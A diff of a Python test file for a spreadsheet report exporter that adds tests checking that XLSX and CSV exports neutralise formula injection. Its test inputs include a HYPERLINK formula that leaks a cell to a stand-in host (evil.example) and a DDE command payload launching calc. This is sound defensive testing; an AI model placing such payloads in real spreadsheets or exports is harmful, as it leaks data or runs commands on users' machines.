@@ -410,8 +410,10 @@ def test_xlsx_has_a_sheet_per_table_with_numbers_formatted(
 
 
 def test_csv_has_sections_with_headers_and_rows(report: Report, report_dir: Path) -> None:
-    text = render_report_csv(report, names=NAMES)
-    (report_dir / "report.csv").write_text(text, encoding="utf-8-sig")
+    data = render_report_csv(report, names=NAMES)
+    (report_dir / "report.csv").write_bytes(data)
+    assert data.startswith(b"\xef\xbb\xbf")  # Excel then reads it as UTF-8
+    text = data.decode("utf-8-sig")
     sections: dict[str, list[list[str]]] = {}
     current: list[list[str]] = []
     for row in csv.reader(io.StringIO(text)):
@@ -439,6 +441,65 @@ def test_csv_has_sections_with_headers_and_rows(report: Report, report_dir: Path
     assert re.fullmatch(r"-?\d\.\d\d", moderation[1][5])
     assert sections["Actions"][1][4] == "2024-03-31"
     assert text.count("\r\n\r\n") == len(SHEETS) + 1  # a blank line ends every section
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?leak="&B2,"Feedback")'
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+NUMBER = re.compile(r"-?\d+(\.\d+)?")
+
+
+def formula_cells(xlsx: bytes) -> list[str]:
+    """Return every formula the workbook holds (from its XML: what Excel would compute)."""
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
+        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        return [f for n in sheets for f in re.findall(r"<f>(.*?)</f>", archive.read(n).decode())]
+
+
+def csv_formulas(data: bytes) -> list[str]:
+    """Return every CSV cell a spreadsheet would read as a formula (numbers aside)."""
+    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
+    return [
+        cell
+        for row in rows
+        for cell in row
+        if cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)
+    ]
+
+
+def hostile_report(framework: Framework, words: str) -> tuple[Report, dict[int, str]]:
+    """Return a report whose every free-text field (team, name, feedback, action) is `words`."""
+    audits = [
+        audit(i, september(i), team=words if i % 2 else "Mendip", auditor_id=101)
+        for i in range(1, 12)
+    ]
+    return build_report(
+        framework, first_month="2023-09", last_month="2023-09", audits=audits,
+        feedback=[FeedbackQuote(1, "2023-09", 1, words, words)],
+        moderation=[ModerationPair(i, 101, "1.3", "exceeds", "below") for i in range(1, 7)],
+        actions=[ActionFacts(1, words, words, words, None, words, date(2023, 9, 1), None)],
+    ), {101: words}  # fmt: skip
+
+
+@pytest.mark.parametrize("words", [HOSTILE, "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
+                                   "\t=1+1", "\r=1+1"])  # fmt: skip
+def test_exports_hold_no_formula_from_anything_people_typed(
+    framework: Framework, words: str
+) -> None:
+    report, names = hostile_report(framework, words)
+    xlsx = render_report_xlsx(report, names=names)
+    assert formula_cells(xlsx) == []
+    workbook = load_workbook(io.BytesIO(xlsx))
+    texts = [c.value for ws in workbook.worksheets for r in ws.iter_rows() for c in r]
+    # Team, name, feedback, action: kept as typed (XML reads a carriage return as a new line).
+    assert texts.count(words.replace("\r", "\n")) >= 5
+    data = render_report_csv(report, names=names)
+    assert csv_formulas(data) == []
+    cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]
+    assert cells.count(f"'{words}") >= 5  # shown as text, with nothing lost
+    # Negative numbers stay numbers: the shift of the auditor the moderators marked down.
+    assert "-2.00" in cells
 
 
 def test_json_is_serialisable_with_stable_keys(report: Report) -> None:
